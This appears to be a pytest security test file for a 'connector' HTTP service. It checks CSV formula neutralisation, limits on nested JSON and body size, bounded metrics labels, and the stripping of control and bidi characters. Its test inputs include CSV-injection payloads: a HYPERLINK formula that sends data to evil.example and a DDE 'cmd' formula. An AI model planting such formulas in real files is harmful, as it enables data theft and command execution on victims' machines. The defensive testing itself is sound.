"""What one caller sends cannot hurt the people reading its exports, the server, or /metrics:
formula cells in CSV exports are neutralised, deeply nested JSON is a 400, an oversized body is a
413 the client can read, metric labels stay bounded, and control/bidi characters never reach
the rendered messages.

Replayed over real HTTP against `connector serve` (gunicorn + gevent, 2 workers)."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import time
import urllib.error
import urllib.request
from pathlib import Path
from typing import Any

import pytest
import requests

from tests.conftest import Api, eventually
from tests.security.conftest import KEY_A, TRANSCRIPT, Facade

pytestmark = pytest.mark.slow

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "=1+2",
    "@x",
]


def run_batch(api: Api, items: list[dict[str, Any]]) -> str:
    created = api.session.post(f"{api.url}/v1/batches", headers=api.headers(), json={"items": items}, timeout=60)
    assert created.status_code == 202, created.text
    batch = created.json()["batch_id"]

    def done() -> bool:
        counts = api.get(f"/v1/batches/{batch}", params={"items": "false"}).json()["counts"]
        return counts["completed"] + counts["failed"] == len(items)

    eventually(done, timeout=60, step=0.2)
    return batch


def check_cells(rows: list[list[str]]) -> None:
    header = rows[0]
    names = sorted(row[header.index("name")] for row in rows[1:])
    assert names == sorted("'" + f for f in FORMULAS)
    assert sorted(row[header.index("key")] for row in rows[1:]) == sorted(["-12.5", "+3", "1e-3", "'-1-1", "k5", "k6"])
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")) or re.fullmatch(r"[+-]?[\d.eE+-]+", cell), cell


def test_csv_exports_neutralise_formulas(facade: Facade, a: Api, tmp_path: Path) -> None:
    keys = ["-12.5", "+3", "1e-3", "-1-1", "k5", "k6"]
    items = [{"transcript": TRANSCRIPT, "name": name, "key": key} for name, key in zip(FORMULAS, keys, strict=True)]
    batch = run_batch(a, items)
    answer = a.get(f"/v1/batches/{batch}/insights", headers={"Accept": "text/csv"})
    assert answer.status_code == 200 and answer.headers["Content-Type"].startswith("text/csv")
    check_cells(list(csv.reader(io.StringIO(answer.text, newline=""))))

    # `connector backfill` writes the same file: the keys were processed already, so it reuses them
    source = tmp_path / "calls.csv"
    with open(source, "w", newline="", encoding="utf-8") as file:
        writer = csv.writer(file)
        writer.writerow(["transcript", "name", "key"])
        for item in items:
            writer.writerow([item["transcript"], item["name"], item["key"]])
    run = subprocess.run(
        [
            sys.executable,
            "-m",
            "connector.cli",
            "backfill",
            str(source),
            "--url",
            facade.url,
            "--key",
            KEY_A,
            "--poll",
            "0.2",
        ],
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, "PYTHONUNBUFFERED": "1"},
    )
    assert run.returncode == 0, run.stderr[-2000:]
    written = (tmp_path / "calls.insights.csv").read_text(encoding="utf-8")
    check_cells(list(csv.reader(io.StringIO(written, newline=""))))


@pytest.mark.parametrize(
    "value,cell",
    [
        ("=1+2", "'=1+2"),
        ("+1+1", "'+1+1"),
        ("-1-1", "'-1-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\r=1", "'\r=1"),
        ("-12.5", "-12.5"),
        ("+3", "+3"),
        ("1e-3", "1e-3"),
        ("-0.25", "-0.25"),
        (-0.25, "-0.25"),
        ("'=1", "'=1"),
        ("plain", "plain"),
        (True, "true"),
        (None, ""),
    ],
)
def test_safe_cell(value: Any, cell: str) -> None:
    """The one helper both CSV writers use (tab and carriage return cannot come in over HTTP:
    names and keys are stripped)."""
    from connector.insights.csv_safe import safe_cell

    assert safe_cell(value) == cell


def test_deeply_nested_json_is_a_400_without_a_traceback(facade: Facade, a: Api) -> None:
    body = "[" * 100_000
    for method, path in (
        ("POST", "/v1/conversations"),
        ("PUT", "/v1/trackers"),
        ("POST", "/v1/hooks"),
        ("POST", "/v1/batches"),
    ):
        response = a.session.request(
            method, f"{a.url}{path}", data=body, timeout=30, headers={**a.headers(), "Content-Type": "application/json"}
        )
        assert response.status_code == 400, (path, response.text)
        assert response.json()["error"]["code"] == "invalid_json", (path, response.text)
    time.sleep(0.3)
    assert "Traceback" not in facade.log() and "RecursionError" not in facade.log()


def test_a_body_over_the_limit_gets_a_readable_413(a: Api) -> None:
    body = b'{"transcript": "' + b"a" * (60 * 1024 * 1024) + b'"}'
    response = requests.post(
        f"{a.url}/v1/conversations", data=body, timeout=60, headers={**a.headers(), "Content-Type": "application/json"}
    )
    assert response.status_code == 413, response.text
    assert response.json()["error"]["code"] == "payload_too_large"

    request = urllib.request.Request(
        f"{a.url}/v1/trackers", data=body, method="PUT", headers={**a.headers(), "Content-Type": "application/json"}
    )
    with pytest.raises(urllib.error.HTTPError) as caught:
        urllib.request.urlopen(request, timeout=60)
    assert caught.value.code == 413
    assert json.loads(caught.value.read())["error"]["code"] == "payload_too_large"

    def chunks():  # no Content-Length: the limit is found while reading (and the rest drained)
        yield b'{"target_url": "https://example.com/hook", "event": "' + b"a" * (1024 * 1024)
        for _ in range(9):
            yield b"a" * (1024 * 1024)
        yield b'"}'

    chunked = requests.post(
        f"{a.url}/v1/hooks", data=chunks(), timeout=60, headers={**a.headers(), "Content-Type": "application/json"}
    )
    assert chunked.status_code == 413, chunked.text
    assert chunked.json()["error"]["code"] == "payload_too_large"
    small = requests.put(
        f"{a.url}/v1/trackers",
        data=iter([b'{"trackers": [], ', b'"dry_run": true}']),
        timeout=30,
        headers={**a.headers(), "Content-Type": "application/json"},
    )
    assert small.status_code == 200, small.text  # a chunked body within the limit is read as usual
    assert a.get("/v1/conversations").status_code == 200  # the server is fine


def series(text: str) -> list[str]:
    return [
        line
        for line in text.splitlines()
        if line.startswith(("connector_requests_total", "connector_symbl_calls_total"))
    ]


def test_metrics_labels_stay_bounded(a: Api) -> None:
    ids = [f"abc{n:03d}def" for n in range(15)]  # conversation-shaped, unknown: each one asks Symbl
    for conversation in ids:
        assert a.insights(conversation).status_code == 404
    for n in range(15):
        assert a.get(f"/v1/no-such-route/{n}-{n}").status_code == 404
        assert a.insights(f"4000000000000{n:03d}%23").status_code == 404
    before = series(requests.get(f"{a.url}/metrics", timeout=10).text)
    for conversation in [f"fed{n:03d}cba" for n in range(15)]:
        assert a.insights(conversation).status_code == 404
    text = requests.get(f"{a.url}/metrics", timeout=10).text
    after = series(text)
    assert len(after) <= len(before) + 2, set(after) - set(before)  # counters may appear in the other worker
    for conversation in ids:
        assert conversation not in text
    assert "no-such-route" not in text and "%23" not in text and "#" not in "".join(after)
    assert 'endpoint="/v1/conversations/<conversation_id>/insights"' in text
    assert 'endpoint="<unmatched>"' in text
    assert 'endpoint="/v1/conversations/{id}"' in text


UNSAFE = ["\x00", "\x07", "\x1b", "\r", "\u202e", "\u202a", "\u2066", "\u2069", "\u200e", "\u200f", "\u061c"]


def test_control_and_bidi_characters_never_reach_rendered_text(a: Api) -> None:
    messages = [
        {"speaker": "Ali\u202ece\x00", "text": "We will \u2066sign\u2069 the contract by Friday.\x07"},
        {"speaker": "B\u200fob\x1b[31m", "text": "Great\u202a, I will send the invoice\r tomorrow.\u061c"},
    ]
    response = a.submit({"messages": messages, "name": "Deal \u202egnp.exe\x00", "wait": 30})
    assert response.status_code == 200, response.text
    flat = response.json()
    rendered = {
        "slack_text": flat["slack_text"],
        "slack_blocks": json.dumps(flat["slack_blocks"], ensure_ascii=False),
        "crm_note": flat["crm_note"],
    }
    rendered.update({k: v for k, v in flat.items() if isinstance(v, str)})
    for field, text in rendered.items():
        assert not [c for c in UNSAFE if c in text], (field, text)
    assert flat["name"] == "Deal gnp.exe" and "Alice" in flat["speakers"] and "Bob[31m" in flat["speakers"]
    assert "sign the contract" in flat["transcript_text"]
